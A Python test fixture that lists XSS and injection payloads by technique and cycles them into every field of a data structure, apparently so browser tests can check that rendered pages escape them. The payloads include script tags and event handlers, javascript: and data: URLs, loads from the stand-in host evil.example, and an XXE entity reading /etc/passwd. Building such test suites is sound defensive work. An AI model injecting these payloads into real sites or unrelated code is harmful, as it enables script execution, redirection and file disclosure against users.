"""Texts that would run, load, hide or lead away where a page took them for more than text, by what they try.

`alert` is what they call: the browser's tests watch it.
"""

from itertools import cycle
from typing import Any

from poison import poisoned

VECTORS: dict[str, tuple[str, ...]] = {
    "elements": (
        "<script>alert(1)</script>",
        "<ScRiPt src=https://evil.example/x.js></sCrIpT >",
        "</title><script>alert(1)</script>",
        "</textarea></noscript></style></template><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
        "<form action=https://evil.example><button>Search</button></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<img src=https://evil.example/pixel.gif>",
        "<video src=https://evil.example/x autoplay></video>",
    ),
    "handlers": (
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)',
        "` onclick=`alert(1)",
        "x/onload=alert(1)//",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=x onclick=alert&#40;1&#41;>click</a>",
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript://example.org/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example/x",
        "https://example.org/\"onmouseover=\"alert(1)",
        "https://user:password@evil.example/",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
    ),
    "svg and math": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    "style": (
        "<style>*{display:none}@import 'https://evil.example/x.css'</style>",
        "\" style=\"position:fixed;inset:0;background:url(https://evil.example/x)",
        "red;} body{display:none} a{color:red",
        "expression(alert(1))",
    ),
    "templates": (
        "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "%(site)s %d",
    ),
    "Markdown": (
        "[click](javascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click]( java\tscript:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "![x](https://evil.example/pixel.gif)",
        "![x](x\" onerror=\"alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1) \"x\"",
        "<img src=x onerror=alert(1)>",
        "`</code><script>alert(1)</script>`",
        "# <svg onload=alert(1)>",
    ),
    "ends of a context": (
        "<!-- --><script>alert(1)</script> -->",
        "<!--",
        "--!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<!--<script>",
        '"});alert(1);({"',
        "\u2028alert(1)\u2029",
        "\\u003cscript\\u003ealert(1)",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\x1b$B<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3C;script&#x3E;alert(1)",
        "<a\x0chref=x>",
        "\ufeff<script>alert(1)</script>",
        "\u202e<script>alert(1)</script>",
    ),
}  # fmt: skip
ALL = tuple(vector for group in VECTORS.values() for vector in group)


def filled(value: Any, first: int = 0) -> Any:
    """The same timeline with the vectors in turn, from the one at `first` on, in every field that one can fill."""
    turn = cycle(ALL[first:] + ALL[:first])
    return poisoned(value, hostile=lambda: next(turn))
